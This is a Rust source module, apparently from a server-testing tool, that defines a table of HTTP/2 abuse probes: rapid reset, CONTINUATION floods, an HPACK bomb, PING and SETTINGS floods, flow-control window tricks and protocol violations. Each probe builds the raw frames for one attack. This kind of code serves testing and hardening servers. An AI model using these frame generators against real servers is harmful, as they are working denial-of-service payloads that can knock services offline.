//! Abuses of HTTP/2 that cost their author less than a careless server: each says what it writes, again and again.

use super::frames::{
    CONTINUATION, DATA, END_HEADERS, END_STREAM, GOAWAY, HEADERS, INITIAL_WINDOW, PADDED, PING,
    PREFACE, PRIORITY, PUSH_PROMISE, RST_STREAM, SETTINGS, Target, WINDOW_UPDATE, field, frame,
    indexed_field, setting,
};

/// What one connection of an abuser knows.
pub struct Abuser<'a> {
    pub(crate) target: &'a Target,
    pub(crate) stream: u32,
    pub(crate) rounds: u64,
}

impl Abuser<'_> {
    fn next(&mut self) -> u32 {
        self.stream += 2;
        self.stream - 2
    }

    fn get(&mut self, out: &mut Vec<u8>, flags: u8) -> u32 {
        let id = self.next();
        frame(
            out,
            HEADERS,
            END_HEADERS | flags,
            id,
            &self.target.block("GET"),
        );
        id
    }
}

/// One kind of abuse.
pub struct Probe {
    /// Its name.
    pub name: &'static str,
    /// Whether a server must end the connection. Otherwise it may also bear it.
    pub ends: bool,
    /// Whether the abuser reads what it is sent.
    pub reads: bool,
    /// The first bytes after the preface and the client's SETTINGS.
    pub(crate) first: fn(&mut Abuser<'_>, &mut Vec<u8>),
    /// The bytes of each further round.
    pub(crate) round: fn(&mut Abuser<'_>, &mut Vec<u8>),
}

fn nothing(_: &mut Abuser<'_>, _: &mut Vec<u8>) {}

fn code(code: u32) -> [u8; 4] {
    code.to_be_bytes()
}

/// Every abuse there is.
pub const PROBES: &[Probe] = &[
    Probe {
        name: "rapid reset",
        ends: true,
        reads: true,
        first: nothing,
        round: |abuser, out| {
            for _ in 0..100 {
                let id = abuser.get(out, END_STREAM);
                frame(out, RST_STREAM, 0, id, &code(8));
            }
        },
    },
    Probe {
        name: "reset by the server's own hand",
        ends: true,
        reads: true,
        first: nothing,
        round: |abuser, out| {
            for _ in 0..100 {
                let id = abuser.get(out, 0);
                // A window update of nothing is a stream error, so the server resets.
                frame(out, WINDOW_UPDATE, 0, id, &code(0));
            }
        },
    },
    Probe {
        name: "CONTINUATION without end",
        ends: true,
        reads: true,
        first: |abuser, out| {
            let id = abuser.next();
            frame(out, HEADERS, END_STREAM, id, &abuser.target.block("GET"));
        },
        round: |_, out| {
            let mut block = Vec::new();
            field(&mut block, "x-more", &[b'v'; 1_000]);
            for _ in 0..16 {
                frame(out, CONTINUATION, 0, 1, &block);
            }
        },
    },
    Probe {
        name: "empty CONTINUATION",
        ends: true,
        reads: true,
        first: |abuser, out| {
            let id = abuser.next();
            frame(out, HEADERS, END_STREAM, id, &abuser.target.block("GET"));
        },
        round: |_, out| {
            for _ in 0..500 {
                frame(out, CONTINUATION, 0, 1, &[]);
            }
        },
    },
    Probe {
        name: "CONTINUATION with END_HEADERS, in crumbs",
        ends: false,
        reads: true,
        first: nothing,
        round: |abuser, out| {
            let id = abuser.next();
            let block = abuser.target.block("GET");
            frame(out, HEADERS, END_STREAM, id, &block[..1]);
            for place in 1..block.len() - 1 {
                frame(out, CONTINUATION, 0, id, &block[place..=place]);
            }
            frame(
                out,
                CONTINUATION,
                END_HEADERS,
                id,
                &block[block.len() - 1..],
            );
        },
    },
    Probe {
        name: "PING",
        ends: true,
        reads: true,
        first: nothing,
        round: |_, out| {
            for _ in 0..500 {
                frame(out, PING, 0, 0, b"abcdefgh");
            }
        },
    },
    Probe {
        name: "PING, answers unread",
        ends: false,
        reads: false,
        first: nothing,
        round: |_, out| {
            for _ in 0..500 {
                frame(out, PING, 0, 0, b"abcdefgh");
            }
        },
    },
    Probe {
        name: "SETTINGS",
        ends: true,
        reads: true,
        first: nothing,
        round: |abuser, out| {
            for number in 0..500 {
                frame(
                    out,
                    SETTINGS,
                    0,
                    0,
                    &setting(INITIAL_WINDOW, 65_535 + number % 2),
                );
            }
            abuser.rounds += 1;
        },
    },
    Probe {
        name: "SETTINGS, answers unread",
        ends: false,
        reads: false,
        first: nothing,
        round: |_, out| {
            for _ in 0..500 {
                frame(out, SETTINGS, 0, 0, &[]);
            }
        },
    },
    Probe {
        name: "empty DATA",
        ends: true,
        reads: true,
        first: |abuser, out| {
            let id = abuser.next();
            frame(out, HEADERS, END_HEADERS, id, &abuser.target.block("POST"));
        },
        round: |_, out| {
            for _ in 0..500 {
                frame(out, DATA, 0, 1, &[]);
            }
        },
    },
    Probe {
        name: "padding instead of DATA",
        ends: false,
        reads: true,
        first: |abuser, out| {
            let id = abuser.next();
            frame(out, HEADERS, END_HEADERS, id, &abuser.target.block("POST"));
        },
        round: |_, out| {
            let mut padding = vec![0; 256];
            padding[0] = 255;
            for _ in 0..16 {
                frame(out, DATA, PADDED, 1, &padding);
            }
        },
    },
    Probe {
        name: "window of nothing, many streams",
        ends: false,
        reads: true,
        first: |_, out| frame(out, SETTINGS, 0, 0, &setting(INITIAL_WINDOW, 0)),
        round: |abuser, out| {
            if abuser.rounds < 20 {
                for _ in 0..10 {
                    abuser.get(out, END_STREAM);
                }
            }
            abuser.rounds += 1;
        },
    },
    Probe {
        name: "window given in single bytes",
        ends: false,
        reads: true,
        first: |abuser, out| {
            frame(out, SETTINGS, 0, 0, &setting(INITIAL_WINDOW, 0));
            for _ in 0..50 {
                abuser.get(out, END_STREAM);
            }
        },
        round: |_, out| {
            for id in 0..50 {
                frame(out, WINDOW_UPDATE, 0, id * 2 + 1, &code(1));
            }
        },
    },
    Probe {
        name: "HPACK bomb",
        ends: false,
        reads: true,
        first: nothing,
        round: |abuser, out| {
            let id = abuser.next();
            let mut block = abuser.target.block("GET");
            indexed_field(&mut block, "x-bomb", &[b'v'; 3_900]);
            // 62 is the newest entry of the dynamic table: one byte becomes four thousand.
            block.extend([0x80 | 62; 8_000]);
            frame(out, HEADERS, END_HEADERS | END_STREAM, id, &block);
        },
    },
    Probe {
        name: "huge header list",
        ends: false,
        reads: true,
        first: nothing,
        round: |abuser, out| {
            let id = abuser.next();
            let mut block = abuser.target.block("GET");
            field(&mut block, "x-huge", &[b'v'; 15_000]);
            frame(out, HEADERS, END_STREAM, id, &block);
            let mut more = Vec::new();
            field(&mut more, "x-more", &[b'v'; 16_000]);
            for _ in 0..3 {
                frame(out, CONTINUATION, 0, id, &more);
            }
            frame(out, CONTINUATION, END_HEADERS, id, &[]);
        },
    },
    Probe {
        name: "fields without names",
        ends: false,
        reads: true,
        first: nothing,
        round: |abuser, out| {
            let id = abuser.next();
            let mut block = abuser.target.block("GET");
            for _ in 0..2_000 {
                field(&mut block, "", b"");
            }
            frame(out, HEADERS, END_HEADERS | END_STREAM, id, &block);
        },
    },
    Probe {
        name: "PRIORITY",
        ends: true,
        reads: true,
        first: nothing,
        round: |abuser, out| {
            for _ in 0..2_000 {
                let id = abuser.stream + 2 * (abuser.rounds as u32 % 1_000);
                frame(out, PRIORITY, 0, id, &[0, 0, 0, 0, 16]);
                abuser.rounds += 1;
            }
        },
    },
    Probe {
        name: "WINDOW_UPDATE in crumbs",
        ends: false,
        reads: true,
        first: nothing,
        round: |_, out| {
            for _ in 0..500 {
                frame(out, WINDOW_UPDATE, 0, 0, &code(1));
            }
        },
    },
    Probe {
        name: "window overflow",
        ends: true,
        reads: true,
        first: nothing,
        round: |_, out| frame(out, WINDOW_UPDATE, 0, 0, &code(u32::MAX >> 1)),
    },
    Probe {
        name: "window overflow by SETTINGS",
        ends: true,
        reads: true,
        first: nothing,
        round: |_, out| frame(out, SETTINGS, 0, 0, &setting(INITIAL_WINDOW, u32::MAX)),
    },
    Probe {
        name: "unknown frames",
        ends: true,
        reads: true,
        first: nothing,
        round: |_, out| {
            for number in 0..2_000 {
                frame(out, 11 + (number % 200) as u8, 0xff, 0, &[0; 16]);
            }
        },
    },
    Probe {
        name: "frame above the size",
        ends: true,
        reads: true,
        first: nothing,
        round: |_, out| frame(out, DATA, 0, 1, &[0; 100_000]),
    },
    Probe {
        name: "second preface",
        ends: true,
        reads: true,
        first: nothing,
        round: |_, out| out.extend_from_slice(PREFACE),
    },
    Probe {
        name: "even stream",
        ends: true,
        reads: true,
        first: nothing,
        round: |abuser, out| {
            let block = abuser.target.block("GET");
            frame(out, HEADERS, END_HEADERS | END_STREAM, 2, &block);
        },
    },
    Probe {
        name: "stream numbers that fall",
        ends: true,
        reads: true,
        first: nothing,
        round: |abuser, out| {
            let block = abuser.target.block("GET");
            frame(out, HEADERS, END_HEADERS | END_STREAM, 9, &block);
            frame(out, HEADERS, END_HEADERS | END_STREAM, 3, &block);
        },
    },
    Probe {
        name: "DATA on an idle stream",
        ends: true,
        reads: true,
        first: nothing,
        round: |_, out| frame(out, DATA, 0, 7, b"abc"),
    },
    Probe {
        name: "RST_STREAM on an idle stream",
        ends: true,
        reads: true,
        first: nothing,
        round: |_, out| frame(out, RST_STREAM, 0, 7, &code(0)),
    },
    Probe {
        name: "CONTINUATION out of nowhere",
        ends: true,
        reads: true,
        first: nothing,
        round: |abuser, out| {
            let block = abuser.target.block("GET");
            frame(out, CONTINUATION, END_HEADERS, 1, &block);
        },
    },
    Probe {
        name: "PUSH_PROMISE from a client",
        ends: true,
        reads: true,
        first: nothing,
        round: |_, out| frame(out, PUSH_PROMISE, END_HEADERS, 1, &[0, 0, 0, 2, 0x82]),
    },
    Probe {
        name: "broken header block",
        ends: true,
        reads: true,
        first: nothing,
        round: |abuser, out| {
            let id = abuser.next();
            frame(
                out,
                HEADERS,
                END_HEADERS | END_STREAM,
                id,
                &[0xff, 0xff, 0xff, 0xff, 0xff],
            );
        },
    },
    Probe {
        name: "GOAWAY and go on",
        ends: false,
        reads: true,
        first: nothing,
        round: |abuser, out| {
            frame(out, GOAWAY, 0, 0, &[0; 8]);
            for _ in 0..10 {
                abuser.get(out, END_STREAM);
            }
        },
    },
];
